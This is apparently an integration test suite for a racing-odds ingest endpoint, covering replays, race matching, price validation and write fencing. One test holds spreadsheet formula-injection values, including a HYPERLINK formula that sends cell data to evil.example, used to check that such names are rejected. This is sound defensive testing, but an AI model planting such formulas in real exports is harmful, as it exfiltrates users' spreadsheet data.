import { createStores } from '../../../../src/store/create-stores';
import { createControlStore } from '../../../../src/store/polls/control';
import type { Answer } from '../../../support/api/api';
import { expectConforms } from '../../../support/api/conforms';
import { type Served, serve } from '../../../support/api/served';
import { addRace } from '../../../support/races/board';
import { type Pushed, push, pushedRace, pushedRunner } from '../../../support/races/push';

let served: Served;
let operator: string;
let customer: string;
beforeAll(async () => {
  served = await serve();
  operator = await served.addKey({ role: 'internal', plan: 'enterprise' });
  customer = await served.addKey({ plan: 'plus' });
});
afterAll(() => served.stop());

const send = (body: unknown, book = 'boostbet', key = operator): Promise<Answer> =>
  served.api.send('POST', `/v1/ingest/${book}`, {
    key,
    body: JSON.stringify(body),
    headers: { 'Content-Type': 'application/json' },
  });

async function pushed(body: Pushed): Promise<Answer['body']> {
  const answer = await send(body, body.bookmaker_key);
  expect([answer.status, answer.body.detail]).toEqual([200, undefined]);
  expectConforms('ingest_prices', answer.body);
  return answer.body;
}

const rowOf = async (book: string, sourceId: string) =>
  (
    await served.db.pool.query('SELECT * FROM race_books WHERE bookmaker_key = $1 AND source_race_id = $2', [
      book,
      sourceId,
    ])
  ).rows[0];
const ticksOf = async (raceId: string) =>
  (await served.db.pool.query('SELECT bookmaker_key, win_price FROM price_ticks WHERE race_id = $1', [raceId])).rows;
const counts = async (connector: string) =>
  Object.fromEntries(
    (
      await served.db.pool.query(
        "SELECT kind || ' ' || reason AS what, count FROM connector_counts WHERE connector = $1 ORDER BY 1",
        [connector],
      )
    ).rows.map((row) => [row.what, row.count]),
  );

test('a race that no book lists yet is created, and its prices have the instant they were observed', async () => {
  const body = await pushed(push());
  expect(body).toEqual({
    ok: true,
    bookmaker_key: 'boostbet',
    races_ingested: 1,
    runners_built: 3,
    observed_at_applied: '2026-11-21T02:59:58.000Z',
    refused: [],
    dropped: {},
  });
  const [race] = (await served.api.get('/v1/racing/next-to-go', customer)).body;
  expect(race).toMatchObject({ venue: 'Flemington', race_number: 1, country: 'AU', data_age_seconds: 2 });
  expect(race.runners[0]).toMatchObject({
    name: 'Runner 1',
    bookmakers: [
      {
        key: 'boostbet',
        win_price: 3,
        last_update: '2026-11-21T02:59:58.000Z',
        age_seconds: 2,
        stale: false,
        age_basis: 'push',
      },
    ],
  });
  const { body: health } = await served.api.get('/v1/health', customer);
  expect(health.find((row: { connector: string }) => row.connector === 'boostbet')).toMatchObject({
    connector: 'boostbet',
    last_ok: '2026-11-21T02:59:58.000Z',
    status: 'ok',
  });
});

test('a repeated push, or one that is not newer, changes nothing and is reported as replayed', async () => {
  const race = pushedRace({ source_id: 'again', race_number: 2 });
  await pushed(push({ races: [race] }));
  const stored = await rowOf('boostbet', 'again');
  const other = { ...race, start_time: '2026-11-21T03:40:00.000Z', runners: [pushedRunner(1, { win_price: 9 })] };
  for (const observed_at of ['2026-11-21T02:59:58.000Z', '2026-11-21T02:50:00.000Z']) {
    for (const races of [[race], [other]]) {
      const body = await pushed(push({ observed_at, races }));
      expect(body).toMatchObject({ races_ingested: 0, refused: [{ source_id: 'again', reason: 'replayed' }] });
    }
  }
  expect(await rowOf('boostbet', 'again')).toEqual(stored);
  expect(await ticksOf(stored.race_id)).toHaveLength(3);
});

test('two simultaneous pushes of one body are written once', async () => {
  const body = push({ races: [pushedRace({ source_id: 'twice', race_number: 3 })] });
  const answers = await Promise.all([send(body), send(body), send(body)]);
  expect(answers.map(({ status }) => status)).toEqual([200, 200, 200]);
  expect(await ticksOf((await rowOf('boostbet', 'twice')).race_id)).toHaveLength(3);
});

test('a push joins the race that other books list, by number or by name, and never moves its start', async () => {
  const startTime = '2026-11-21T03:50:00.000Z';
  const race = await addRace(served.db.pool, { venue: 'Caulfield', startTime }, {});
  const races = createStores(served.db.pool).races;
  await races.saveCard('ladbrokes_au', [race], '2026-11-21T00:00:00.000Z');
  const first = { venue: 'CAULFIELD', source_id: 'c1', start_time: '2026-11-21T03:52:00.000Z' };
  await pushed(push({ races: [pushedRace(first)] }));
  const nameless = [
    { name: 'RUNNER 2', win_price: 7 },
    { name: 'Nobody', win_price: 5 },
  ];
  const body = await pushed(
    push({ bookmaker_key: 'betgold', races: [pushedRace({ ...first, source_id: 'g1', runners: nameless })] }),
  );
  expect(body).toMatchObject({ runners_built: 1, dropped: { runner_unjoined: 1 } });
  expect(await rowOf('betgold', 'g1')).toMatchObject({ numbers: [2], win: [7] });
  expect((await rowOf('boostbet', 'c1')).race_id).toBe((await rowOf('betgold', 'g1')).race_id);
  expect((await races.raceHeader((await rowOf('betgold', 'g1')).race_id))!.startTime).toBe(startTime);
});

test('a push without numbers is refused until a source has named the runners; the same prices are accepted later', async () => {
  const nameless = { ...pushedRace({ source_id: 'early', venue: 'Ascot', race_number: 7 }) };
  const early = push({ races: [{ ...nameless, runners: [{ name: 'Runner 2', win_price: 7 }] }] });
  expect(await pushed(early)).toMatchObject({
    races_ingested: 0,
    refused: [{ source_id: 'early', reason: 'runners_not_known' }],
    dropped: {},
  });
  expect(await rowOf('boostbet', 'early')).toMatchObject({ polled_at: null });
  await pushed(push({ bookmaker_key: 'betgold', races: [nameless] }));
  expect(await pushed(early)).toMatchObject({ races_ingested: 1, runners_built: 1 });
});

test('a value that is no price, or breaks the order of the legs, is dropped and counted (D22)', async () => {
  const runners = [
    pushedRunner(1, { win_price: 1 }),
    pushedRunner(2, { win_price: 4, place_price: 0, top2_price: 5, top3_price: 2 }),
    pushedRunner(3, { win_price: null }),
  ];
  const body = await pushed(push({ races: [pushedRace({ source_id: 'legs', race_number: 4, runners })] }));
  expect(body).toMatchObject({ runners_built: 3, dropped: { win_not_above_1: 1, top2_above_win: 1 } });
  expect(await rowOf('boostbet', 'legs')).toMatchObject({ win: [null, 4, null], top3: [null, 2, null] });
  expect(await counts('boostbet')).toMatchObject({ 'dropped win_not_above_1': 1, 'dropped top2_above_win': 1 });
});

test('a runner or venue whose name is a spreadsheet formula is dropped and counted, and the rest of the push is accepted', async () => {
  const names = ['=HYPERLINK("http://evil.example/?"&A1)', '@SUM(1+9)', '+1', '-1', '＝1+1', 'Gold-Trip = 1'];
  const runners = names.map((name, i) => pushedRunner(i + 1, { name }));
  const races = [
    pushedRace({ source_id: 'names', race_number: 11, runners }),
    pushedRace({ source_id: 'venue', race_number: 12, venue: '=Flemington' }),
  ];
  expect(await pushed(push({ races }))).toMatchObject({
    races_ingested: 1,
    runners_built: 1,
    refused: [{ source_id: 'venue', reason: 'name_is_formula' }],
    dropped: { name_is_formula: 5 },
  });
  expect(await counts('boostbet')).toMatchObject({
    'dropped name_is_formula': 5,
    'refused name_is_formula': 1,
  });
  const { rows } = await served.db.pool.query(
    "SELECT name FROM race_runners JOIN race_books USING (race_id) WHERE source_race_id = 'names'",
  );
  expect(rows).toEqual([{ name: 'Gold-Trip = 1' }]);
});

test('an ambiguous race, or one outside the window, is refused alone', async () => {
  const races = [
    pushedRace({ source_id: 'far', venue: 'Ascot', start_time: '2026-11-29T03:30:00.000Z' }),
    pushedRace({ source_id: 'past', venue: 'Ascot', start_time: '2026-11-21T01:30:00.000Z' }),
    pushedRace({ source_id: 'moved', race_number: 1, start_time: '2026-11-21T04:30:00.000Z' }),
    pushedRace({ source_id: 'good', venue: 'Ascot' }),
  ];
  expect(await pushed(push({ races }))).toMatchObject({
    races_ingested: 1,
    refused: [
      { source_id: 'far', reason: 'start_out_of_window' },
      { source_id: 'past', reason: 'start_out_of_window' },
      { source_id: 'moved', reason: 'ambiguous_race' },
    ],
  });
});

test('a race off the board takes no more prices from any book, so that its archive is complete', async () => {
  const race = pushedRace({
    source_id: 'left',
    venue: 'Randwick',
    race_number: 7,
    start_time: '2026-11-21T02:55:00.000Z',
  });
  await pushed(push({ races: [race] }));
  const { race_id: raceId } = await rowOf('boostbet', 'left');
  const leave = (at: string | null) =>
    served.db.pool.query('UPDATE races SET left_board_at = $2 WHERE race_id = $1', [raceId, at]);
  await leave('2026-11-21T02:59:00.000Z');
  const stored = await rowOf('boostbet', 'left');
  const runners = [pushedRunner(1, { win_price: 9 }), pushedRunner(2, { win_price: null })];
  const again = { ...race, runners };
  const observed_at = '2026-11-21T02:59:59.000Z';
  for (const bookmaker_key of ['boostbet', 'betgold']) {
    const next = pushedRace({ source_id: 'next', venue: 'Randwick', race_number: 8 });
    const body = await pushed(push({ bookmaker_key, observed_at, races: [again, next] }));
    expect(body).toMatchObject({ races_ingested: 1, refused: [{ source_id: 'left', reason: 'off_board' }] });
  }
  expect(await rowOf('boostbet', 'left')).toEqual(stored);
  expect(await rowOf('betgold', 'left')).toMatchObject({ polled_at: null });
  expect(await ticksOf(raceId)).toHaveLength(3);
  await leave(null);
  expect(await pushed(push({ observed_at, races: [again] }))).toMatchObject({ races_ingested: 1, refused: [] });
  expect(await ticksOf(raceId)).toHaveLength(4);
});

test('a push with another race’s runners is refused as a whole', async () => {
  const race = pushedRace({ source_id: 'ours', race_number: 6 });
  await pushed(push({ races: [race] }));
  const others = ['Ada', 'Bo', 'Cy', 'Dee'].map((name, i) => pushedRunner(i + 1, { name }));
  const body = await pushed(push({ bookmaker_key: 'betgold', races: [{ ...race, runners: others }] }));
  expect(body).toMatchObject({ races_ingested: 0, refused: [{ source_id: 'ours', reason: 'another_race' }] });
});

test('a pushed row belongs to its pusher: no claim refuses a push, and no poller overwrites the row', async () => {
  const race = pushedRace({ source_id: 'mine', race_number: 5 });
  const later = '2026-11-21T02:59:59.000Z';
  await pushed(push({ races: [race] }));
  const { race_id: raceId } = await rowOf('boostbet', 'mine');
  const control = createControlStore(served.db.pool);
  await control.setControl({ raceId, epoch: 7, tier: 'live', advertisedStart: race.start_time, closed: false }, later);
  expect(await control.claim(raceId, 7, 3_000_001, later)).toBe(true);
  const runners = [pushedRunner(1, { win_price: 8 })];
  expect(await pushed(push({ observed_at: later, races: [{ ...race, runners }] }))).toMatchObject({
    races_ingested: 1,
  });
  // A book that is linked while a poller has claimed the race.
  const linked = { ...race, source_id: 'theirs' };
  await pushed(push({ bookmaker_key: 'betgold', observed_at: later, races: [linked] }));
  expect(await rowOf('betgold', 'theirs')).toMatchObject({ win: [3, 4, 5] });
  const { quotes } = createStores(served.db.pool);
  const poll = { raceId, bookAt: null, marketStateSource: false, startSource: false, snapshot: null };
  for (const bookmakerKey of ['boostbet', 'betgold']) {
    const outcome = await quotes.savePoll({
      ...poll,
      bookmakerKey,
      fence: { epoch: 7, attempt: 3_000_001 },
      observedAt: '2026-11-21T03:00:00.000Z',
    });
    expect(outcome.fenced).toBe(true);
  }
});
